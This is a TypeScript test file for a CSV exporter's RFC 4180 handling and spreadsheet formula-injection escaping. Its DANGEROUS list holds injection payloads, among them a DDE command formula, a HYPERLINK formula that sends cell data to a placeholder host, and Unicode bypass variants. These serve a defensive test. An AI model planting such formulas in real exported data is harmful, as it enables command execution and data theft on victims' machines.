/** CSV: what RFC 4180 says, what spreadsheets would run, and chunks cut anywhere. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sql } from '../../../src/compile/fragment.ts';
import type { OutputColumn } from '../../../src/export/output-column.ts';
import { csv } from '../../../src/export/format/csv.ts';
import { parseCsv } from '../export-world.ts';

const TEXT: OutputColumn = { name: 'name', type: 'text', value: sql`c.name` };
const NUMBER: OutputColumn = { name: 'age', type: 'numeric', value: sql`c.age` };

/** As COPY prints it: LF, quotes only where needed, NULL as nothing, an empty text in quotes. */
function copied(rows: readonly (readonly (string | null)[])[]): Buffer {
  const cell = (text: string | null): string =>
    text === null ? '' : text === '' || /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
  return Buffer.from(rows.map((row) => `${row.map(cell).join(',')}\n`).join(''));
}

function through(
  columns: readonly OutputColumn[],
  bytes: Buffer,
  cuts: readonly number[] = [],
  formulas = false,
): { text: string; count: number } {
  const format = csv(columns, { formulas });
  const ends = [...new Set(cuts.map((cut) => cut % (bytes.length + 1)))].sort((a, b) => a - b);
  const pieces = [...ends, bytes.length].map((end, index) => bytes.subarray(ends[index - 1] ?? 0, end));
  const text = Buffer.concat(pieces.map((piece) => Buffer.from(format.rows(Buffer.from(piece))))).toString('utf8');
  return { text, count: format.count };
}

/** OWASP's list, with the full-width forms, and what is known to get around a plain look at the first character. */
const DANGEROUS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tx',
  '\rx',
  '\nx',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫x',
  '−1',
  ' =1',
  '  @x',
  '\u00a0=1',
  '\u3000＝1',
  '\ufeff=1',
  '\u200b-1',
  ' \t=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"a")',
  '-2+3+cmd|x',
  '=1,2',
  '="a"',
  '=',
  '-',
  '+49 170 1',
  '@',
  ' \n=1',
  '=1\r\n=2',
];
const HARMLESS = [
  '',
  'x',
  'a=1',
  'a@b',
  '1-2',
  'x\n=1',
  "'=1",
  '_=1',
  ' a',
  ' ',
  '   ',
  '\u00a0',
  'é',
  '世界',
  '5',
  '*1',
  '%1',
  '|x',
  'a,=b',
  'a"=b',
  '"=1"',
  '(=1)',
  '＜',
  '﹥',
  '‐1',
];

test('each text that begins a formula gets a quote in front, and no other text does', () => {
  const rows = [...DANGEROUS, ...HARMLESS].map((text) => [text, text]);
  const both = parseCsv(through([TEXT, NUMBER], copied(rows)).text);
  expect(both.map(([guarded]) => guarded)).toEqual([...DANGEROUS.map((text) => `'${text}`), ...HARMLESS]);
  // what is a number by its type is left alone
  expect(both.map(([, plain]) => plain)).toEqual([...DANGEROUS, ...HARMLESS]);
});

test('with formulas: true no text gets a quote in front', () => {
  const rows = DANGEROUS.map((text) => [text]);
  expect(parseCsv(through([TEXT], copied(rows), [], true).text)).toEqual(rows);
});

test('the names in a header get a quote in front too', () => {
  const names = ['a', '=b', 'c,d', 'e"f', '＠g'];
  const columns = names.map((name) => ({ ...TEXT, name }));
  expect(Buffer.from(csv(columns, {}).header()).toString()).toBe(`a,'=b,"c,d","e""f",'＠g\r\n`);
  expect(parseCsv(Buffer.from(csv(columns, { formulas: true }).header()).toString())).toEqual([names]);
});

test('lines of CSV end in CRLF, line ends inside values stay, an empty and a missing text differ', () => {
  expect(
    through(
      [TEXT, NUMBER],
      copied([
        ['a\nb', '1'],
        ['c\r\nd', null],
        [null, '2'],
        ['', null],
      ]),
    ).text,
  ).toBe('"a\nb",1\r\n"c\r\nd",\r\n,2\r\n"",\r\n');
});

describe('for random rows', () => {
  const cell = fc.oneof(
    fc.constant(null),
    fc.string({
      unit: fc.constantFrom('a', ',', '"', '\n', '\r', '=', '-', ' ', '\t', 'é', '＝', "'", '😀', '\u00a0'),
    }),
    fc.constantFrom(...DANGEROUS, ...HARMLESS),
  );
  test('wherever the bytes of COPY are cut, the CSV has the same rows, but for the quotes in front', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(cell, cell, cell), { maxLength: 6 }),
        fc.array(fc.nat(), { maxLength: 5 }),
        (rows, cuts) => {
          const columns = [TEXT, NUMBER, TEXT].map((column, index) => ({ ...column, name: `c${index}` }));
          const bytes = copied(rows);
          const cut = through(columns, bytes, cuts);
          expect(cut).toEqual(through(columns, bytes));
          expect(cut.count).toBe(rows.length);
          const parsed = parseCsv(cut.text);
          expect(parsed.length).toBe(rows.length);
          for (const [index, row] of rows.entries()) {
            for (const [at, value] of row.entries()) {
              const found = parsed[index]?.[at] ?? '';
              expect([value ?? '', ...(at === 1 ? [] : [`'${value}`])]).toContain(found);
              if (at !== 1) expect(/^[\s\u200b\ufeff]*[=+@＝＋－＠﹦﹢﹣﹫−-]|^[\t\r\n]/.test(found)).toBe(false);
            }
          }
        },
      ),
      { numRuns: 500 },
    );
  });
});
